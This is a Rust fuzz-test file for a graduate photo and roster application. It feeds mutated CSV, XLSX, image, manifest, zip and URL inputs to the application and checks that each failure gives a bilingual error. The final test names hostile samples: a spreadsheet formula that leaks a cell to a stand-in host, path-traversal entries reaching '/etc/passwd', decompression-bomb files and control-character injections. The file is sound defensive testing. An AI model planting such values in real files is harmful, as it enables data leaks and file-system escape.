//! Hostile input: everything that comes in from outside, mutated thousands of times by a seeded
//! mutator — roster files (CSV in UTF-8 and GBK, XLSX), scanner text and code payloads, profile
//! TOML, photo files (JPEG, PNG, WebP), export manifests and their zip archives, central URLs.
//! Each case must end in a result or an error said in words in both languages — never a panic,
//! never an English-only or empty message. The seed is fixed (a failure names its case and
//! leaves the input under the target folder); `TUCAI_FUZZ_CASES` scales the counts for a
//! longer run, and `TUCAI_FUZZ_SEED` picks another sequence.
//!
//! The files under `tests/data/hostile/` are the named cases of issue 20, each refused in words.

#[path = "common/xlsx.rs"]
mod xlsx;

use std::panic::{AssertUnwindSafe, catch_unwind};
use std::path::{Path, PathBuf};

use image::RgbImage;
use tucai::i18n::{Lang, Say};

/// A small, fast, seeded generator (xorshift64*): the same seed gives the same cases everywhere.
struct Rng(u64);

impl Rng {
    fn new(seed: u64) -> Rng {
        Rng(seed.max(1))
    }

    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n.max(1) as u64) as usize
    }
}

/// Byte values and numbers that break parsers more often than random ones do.
const INTERESTING_BYTES: &[u8] = &[0x00, 0x01, 0x1B, 0x7F, 0x80, 0x9B, 0xFE, 0xFF, b'"', b',', b'\n', b'\r', b'='];
const INTERESTING_NUMBERS: &[&str] =
    &["0", "-1", "65535", "4294967296", "18446744073709551616", "1e309", "-0", "nan", "inf", "0.0000001"];

/// One to four random edits of `seed`: flip a bit, set an interesting byte, insert or delete a
/// run, duplicate a chunk, truncate, or replace a run of digits with an interesting number.
fn mutate(seed: &[u8], rng: &mut Rng) -> Vec<u8> {
    let mut out = seed.to_vec();
    for _ in 0..1 + rng.below(4) {
        let at = rng.below(out.len() + 1);
        match rng.below(7) {
            0 if !out.is_empty() => {
                let i = at.min(out.len() - 1);
                out[i] ^= 1 << rng.below(8);
            }
            1 if !out.is_empty() => {
                let i = at.min(out.len() - 1);
                out[i] = INTERESTING_BYTES[rng.below(INTERESTING_BYTES.len())];
            }
            2 => {
                let run: Vec<u8> = (0..1 + rng.below(8)).map(|_| rng.next() as u8).collect();
                out.splice(at..at, run);
            }
            3 => {
                let end = (at + 1 + rng.below(16)).min(out.len());
                out.drain(at.min(end)..end);
            }
            4 if !out.is_empty() => {
                let from = rng.below(out.len());
                let end = (from + 1 + rng.below(64)).min(out.len());
                let chunk = out[from..end].to_vec();
                out.splice(at..at, chunk);
            }
            5 => out.truncate(at),
            _ => {
                let digits = out.iter().enumerate().skip(at).find(|(_, b)| b.is_ascii_digit()).map(|(i, _)| i);
                if let Some(start) = digits {
                    let end = out[start..].iter().position(|b| !b.is_ascii_digit()).map_or(out.len(), |n| start + n);
                    let number = INTERESTING_NUMBERS[rng.below(INTERESTING_NUMBERS.len())];
                    out.splice(start..end, number.bytes());
                }
            }
        }
    }
    out
}

/// How many cases per target: `base`, scaled by `TUCAI_FUZZ_CASES` (a multiplier).
fn cases(base: usize) -> usize {
    let scale: usize = std::env::var("TUCAI_FUZZ_CASES").ok().and_then(|v| v.parse().ok()).unwrap_or(1);
    base * scale.max(1)
}

fn seed_of(target: &str) -> u64 {
    let base: u64 = std::env::var("TUCAI_FUZZ_SEED").ok().and_then(|v| v.parse().ok()).unwrap_or(20_261_207);
    target.bytes().fold(base, |h, b| h.wrapping_mul(31).wrapping_add(u64::from(b)))
}

fn scratch(target: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("tucai-hostile-{target}-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("scratch folder");
    dir
}

/// Runs `check` on `count` mutations of the seeds; a panic is reported with the case number
/// and its input kept in the target's scratch folder.
fn fuzz(target: &str, seeds: &[Vec<u8>], count: usize, mut check: impl FnMut(&[u8])) {
    let mut rng = Rng::new(seed_of(target));
    for case in 0..count {
        let input = mutate(&seeds[case % seeds.len()], &mut rng);
        if catch_unwind(AssertUnwindSafe(|| check(&input))).is_err() {
            let kept = scratch(target).join(format!("case-{case}.bin"));
            let _ = std::fs::write(&kept, &input);
            panic!("{target}: case {case} panicked; its input is in {}", kept.display());
        }
    }
}

/// An error said in words: not empty in either language, and the Chinese one is Chinese.
fn in_words(what: &str, error: &dyn Say) {
    let (zh, en) = (error.say(Lang::Zh), error.say(Lang::En));
    assert!(!en.trim().is_empty(), "{what}: an empty English message");
    assert!(zh.chars().any(|c| ('\u{4e00}'..='\u{9fff}').contains(&c)), "{what}: not said in Chinese: {zh}");
}

fn data(path: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join(path)
}

#[test]
fn roster_files_in_utf8_gbk_and_xlsx() {
    let demo = std::fs::read(data("assets/demo/roster.csv")).expect("demo roster");
    let hostile = std::fs::read(data("tests/data/hostile/roster-formulas-escapes.csv")).expect("hostile roster");
    let text = String::from_utf8(demo.clone()).expect("utf-8");
    let gbk = encoding_rs::GBK.encode(text.trim_start_matches('\u{feff}')).0.into_owned();
    let name = Path::new("名单.csv");
    let check = |bytes: &[u8]| match tucai::roster::parse_roster(name, bytes.to_vec()) {
        Ok(roster) => {
            for p in &roster.problems {
                in_words("a roster row", p);
            }
            for r in &roster.records {
                assert!(tucai::limits::check_text(&r.name, tucai::limits::MAX_CELL_CHARS).is_ok(), "{r:?}");
            }
        }
        Err(e) => in_words("a roster file", &e),
    };
    fuzz("roster-csv", &[demo, hostile, gbk], cases(3000), check);

    let rows: [&[&str]; 4] = [
        &["2026届毕业生名单", "", "", "", ""],
        &["学号", "姓名", "身份证号", "学院", "班级"],
        &["2026000001", "王芳", "11010519491231002X", "信息学院", "软件1班"],
        &["2026000002", "李静", "", "经管学院", "会计2班"],
    ];
    let sheet = xlsx::sheet_xml(&rows);
    let book = xlsx::workbook(&rows);
    assert_eq!(
        tucai::roster::parse_roster(Path::new("a.xlsx"), book.clone()).expect("the seed reads").records.len(),
        2
    );
    // The sheet's XML mutated inside a sound package (the XML reader is what is tried), and the
    // package's bytes mutated (the zip reader).
    fuzz("roster-xlsx-sheet", &[sheet.into_bytes()], cases(600), |xml| {
        check(&xlsx::package(&String::from_utf8_lossy(xml)));
    });
    fuzz("roster-xlsx-zip", &[book], cases(600), check);
}

#[test]
fn scanner_text_and_code_payloads() {
    let rule = tucai::profile::CodeRule::default();
    let seeds = [
        tucai::code::card_payload("2026000001", "王芳").into_bytes(),
        b"Xy9+/ab==AAECAwQFBgcICQ\r\n".to_vec(),
        "TUCAI1|2026000002|李\u{1b}[2J静".as_bytes().to_vec(),
    ];
    fuzz("scanner", &seeds, cases(5000), |bytes| {
        let text = String::from_utf8_lossy(bytes);
        match tucai::code::interpret(&text, &rule) {
            Ok(tucai::code::CodeMeaning::Card { student_no, name }) => {
                assert!(tucai::limits::check_text(&student_no, tucai::limits::MAX_CODE_CHARS).is_ok());
                assert!(name.is_none_or(|n| !n.chars().any(tucai::limits::is_invisible_control)));
            }
            Ok(tucai::code::CodeMeaning::Chsi { code }) => {
                assert!(tucai::limits::check_text(&code, tucai::limits::MAX_CODE_CHARS).is_ok(), "{code:?}");
            }
            Err(e) => in_words("a scanned code", &e),
        }
    });
}

#[test]
fn profile_toml() {
    let seeds: Vec<Vec<u8>> = std::fs::read_dir(data("profiles"))
        .expect("profiles")
        .flatten()
        .filter(|e| e.path().extension().is_some_and(|x| x == "toml"))
        .map(|e| std::fs::read(e.path()).expect("profile"))
        .collect();
    assert!(seeds.len() >= 3);
    fuzz("profile", &seeds, cases(3000), |bytes| {
        let text = String::from_utf8_lossy(bytes);
        match tucai::profile::parse_profile(&text, PathBuf::from("profiles/x.toml")) {
            Ok(spec) => {
                // What validation let through must be usable: sizes and windows are sane.
                assert!(spec.output.width_px > 0 && spec.output.height_px > 0, "{:?}", spec.output);
            }
            Err(e) => in_words("a profile", &e),
        }
    });
}

#[test]
fn photo_files_jpeg_png_webp() {
    let img = RgbImage::from_fn(48, 40, |x, y| image::Rgb([(x * 5) as u8, (y * 6) as u8, 120]));
    let encode = |format| {
        let mut bytes = Vec::new();
        img.write_to(&mut std::io::Cursor::new(&mut bytes), format).expect("encode");
        bytes
    };
    let seeds = [encode(image::ImageFormat::Jpeg), encode(image::ImageFormat::Png), encode(image::ImageFormat::WebP)];
    fuzz("photo", &seeds, cases(3000), |bytes| match tucai::imaging::decode_photo(bytes) {
        Ok(photo) => {
            let pixels = u64::from(photo.image.width()) * u64::from(photo.image.height());
            assert!(pixels <= tucai::limits::MAX_PHOTO_PIXELS);
        }
        Err(e) => in_words("a photo", &e),
    });
}

#[test]
fn export_manifests_and_archives() {
    use tucai::export::{MANIFEST_JSON, Manifest, ManifestRow, verify_batch};
    let dir = scratch("batch");
    let photos: Vec<(String, Vec<u8>)> =
        (1..=3).map(|i| (format!("202600000{i}.jpg"), format!("photo {i} bytes").into_bytes())).collect();
    let rows: Vec<ManifestRow> = photos
        .iter()
        .enumerate()
        .map(|(i, (file, bytes))| ManifestRow {
            student_no: format!("202600000{}", i + 1),
            name: ["=王芳", "李静", "张\u{202e}三"][i].into(),
            id_number: String::new(),
            college: "信息学院".into(),
            major: String::new(),
            class: String::new(),
            exam_no: String::new(),
            file: file.clone(),
            archive: "photos-01.zip".into(),
            sha256: tucai::store::sha256_hex(bytes),
            bytes: bytes.len() as u64,
            verdict: "pass".into(),
            status: "accepted".into(),
            taken_at: "2026-06-01T08:00:00Z".into(),
            station: "A".into(),
            capture_id: format!("c{i}"),
        })
        .collect();
    let manifest = Manifest {
        batch: "tucai-A-0001".into(),
        profile: "chsi-graduate".into(),
        written_at: "2026-06-01T09:00:00Z".into(),
        photos: rows,
        export_id: "0123456789abcdef".into(),
        encrypted: false,
    };
    let (files, _) = manifest.files().expect("manifest files");
    for (name, bytes) in &files {
        std::fs::write(dir.join(name), bytes).expect("write");
    }
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let stored = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    for (name, bytes) in &photos {
        zip.start_file(name.as_str(), stored).expect("entry");
        std::io::Write::write_all(&mut zip, bytes).expect("write");
    }
    let archive = zip.finish().expect("zip").into_inner();
    std::fs::write(dir.join("photos-01.zip"), &archive).expect("write");
    let progress = tucai::progress::Progress::default();
    let clean = verify_batch(&dir, None, &progress);
    assert_eq!((clean.verified, clean.problems.len()), (3, 0), "the seed batch verifies: {:?}", clean.problems);

    let check = |report: tucai::export::VerifyReport| {
        assert!(report.verified <= report.listed);
        for p in &report.problems {
            in_words("a verify problem", p);
        }
    };
    let json = files.iter().find(|(n, _)| *n == MANIFEST_JSON).map(|(_, b)| b.clone()).expect("json");
    fuzz("manifest", std::slice::from_ref(&json), cases(1500), |bytes| {
        std::fs::write(dir.join(MANIFEST_JSON), bytes).expect("write");
        check(verify_batch(&dir, None, &progress));
    });
    std::fs::write(dir.join(MANIFEST_JSON), &json).expect("restore the manifest");
    fuzz("archive", &[archive], cases(1500), |bytes| {
        std::fs::write(dir.join("photos-01.zip"), bytes).expect("write");
        check(verify_batch(&dir, None, &progress));
    });
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn central_urls() {
    let access = tucai::sync::CentralAccess { insecure_tls: false, password_file: None };
    let seeds = [
        b"postgres://booth:secret@central.example:5432/tucai?sslmode=verify-full".to_vec(),
        b"postgresql://booth@10.0.0.5/tucai?sslmode=require&sslrootcert=/etc/ca.pem".to_vec(),
        b"postgres://[::1]:5432/tucai".to_vec(),
    ];
    fuzz("url", &seeds, cases(5000), |bytes| {
        if let Err(e) = tucai::sync::CentralUrl::parse(&String::from_utf8_lossy(bytes), &access) {
            in_words("a central URL", &e);
        }
    });
}

/// The named hostile files of issue 20: each refused in words, nothing allocated for what a
/// header or an archive only claims.
#[test]
fn the_named_hostile_files_are_refused_in_words() {
    let hostile = |name: &str| data(&format!("tests/data/hostile/{name}"));
    let bomb = tucai::imaging::load_photo(&hostile("claims-30000x30000.png")).map(|_| ()).expect_err("refused");
    assert!(bomb.say(Lang::Zh).contains("30000×30000"), "{}", bomb.say(Lang::Zh));
    let book = tucai::roster::read_roster(&hostile("workbook-claims-4gb.xlsx")).map(|_| ()).expect_err("refused");
    assert!(matches!(book, tucai::roster::RosterError::TooLarge { .. }), "{}", book.say(Lang::En));
    // Cells at positions that overflow the reader's arithmetic, or that would make a dense sheet
    // of 17 billion cells (A1 and XFD1048576): an error in words, or only the cells there are.
    for cells in [r#"<c r="A99999999999"><v>1</v></c>"#, r#"<c r="A1"><v>1</v></c><c r="XFD1048576"><v>2</v></c>"#] {
        let sheet = format!(r#"<worksheet><sheetData><row r="1">{cells}</row></sheetData></worksheet>"#);
        match tucai::roster::parse_roster(Path::new("a.xlsx"), xlsx::package(&sheet)) {
            Ok(roster) => assert!(roster.records.is_empty()),
            Err(e) => in_words("a hostile sheet", &e),
        }
    }
    let roster = tucai::roster::read_roster(&hostile("roster-formulas-escapes.csv")).expect("the file reads");
    let refused: Vec<usize> = roster.problems.iter().map(|p| p.line).collect();
    assert_eq!(refused, [3, 4, 5], "the escape, the right-to-left override and the 5,000-character name");
    let names: Vec<&str> = roster.records.iter().map(|r| r.name.as_str()).collect();
    assert_eq!(names, ["=HYPERLINK(\"http://example.invalid/?\"&A2", "@SUM(1+1)", "张三"], "formulas are text");
    let report = tucai::export::verify_batch(&hostile("batch-outside"), None, &tucai::progress::Progress::default());
    let outside: Vec<String> = report
        .problems
        .iter()
        .filter_map(|p| match p {
            tucai::export::VerifyProblem::OutsideBatch { path } => Some(path.clone()),
            _ => None,
        })
        .collect();
    assert_eq!(outside, ["../../../etc/hostname", "/etc/passwd"], "{:?}", report.problems);
    assert_eq!(report.verified, 0);
}
